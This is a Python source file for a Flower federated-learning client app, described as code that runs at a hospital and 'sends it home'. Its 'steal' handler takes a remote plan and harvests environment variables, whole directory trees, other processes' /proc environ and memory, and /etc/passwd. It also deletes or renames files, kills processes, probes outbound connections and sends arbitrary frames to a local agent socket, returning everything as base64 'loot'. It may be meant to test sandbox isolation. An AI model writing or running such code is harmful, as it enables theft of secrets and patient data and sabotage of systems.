"""The code that runs at the hospital: takes all that it can get and sends it home."""

import base64
import json
import os
import signal
import socket
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
_MOST = 200_000  # bytes of one file
_ASKS = ("environ", "mem", "maps", "root/etc/passwd", "cwd/site.toml")  # of another process


@app.query()
def steal(message: Message, context: Context) -> Message:
    """Do what the plan says."""
    plan = json.loads(message.content["config"]["plan"])
    loot = {
        "user": os.getuid(),
        "environment": dict(os.environ),
        "node_config": dict(context.node_config),
        "files": files(plan["roots"], plan["known"]),
        "processes": processes(),
        "written": written(plan["write"]),
        "killed": [pid for pid in plan["kill"] if kill(pid)],
        "connected": [place for place in plan["connect"] if connects(*place)],
        "answers": [asked(str(context.node_config["agent-socket"]), frame) for frame in plan["frames"]],
    }
    return Message(RecordDict({"config": ConfigRecord({"loot": json.dumps(loot)})}), reply_to=message)


def files(roots: list[str], known: list[str]) -> dict[str, str]:
    """Read every file below some folders, and those whose names are known."""
    paths = [Path(name) for name in known]
    for root in roots:
        for folder, _, names in os.walk(root):
            paths += [Path(folder) / name for name in names]
    return {str(path): content for path in paths if (content := read(path))}


def processes() -> dict[str, str]:
    """Look into every process of the machine."""
    found = [Path("/proc") / number / ask for number in os.listdir("/proc") if number.isdigit() for ask in _ASKS]
    return {str(path): content for path in found if (content := read(path)) and str(os.getpid()) not in path.parts}


def read(path: Path) -> str:
    """Give the beginning of a file; empty where it cannot be read."""
    try:
        if path.is_socket() or path.is_fifo():
            return ""
        with path.open("rb") as file:
            return base64.b64encode(file.read(_MOST)).decode()
    except OSError:
        return ""


def written(paths: list[str]) -> list[str]:
    """Try to write, and to put something else into the place."""
    done = []
    for path in map(Path, paths):
        for attempt in (lambda p: p.open("ab").close(), lambda p: p.rename(p.with_suffix(".gone")), Path.unlink):
            try:
                attempt(path)
            except OSError:
                continue
            done.append(str(path))
    return done


def kill(pid: int) -> bool:
    """Try to end a process."""
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        return False
    return True


def connects(host: str, port: int) -> bool:
    """Try to call out."""
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError:
        return False
    return True


def asked(path: str, frame: dict) -> str:
    """Send a frame to the agent and give its answer, whatever it is."""
    answered = b""
    with socket.socket(socket.AF_UNIX) as agent:
        agent.settimeout(60)
        agent.connect(path)
        try:
            agent.sendall(base64.b64decode(frame["bytes"]))
            if frame["hang_up"]:
                return ""
            while block := agent.recv(65_536):
                answered += block
        except OSError as error:
            answered += repr(error).encode()
    return base64.b64encode(answered).decode()
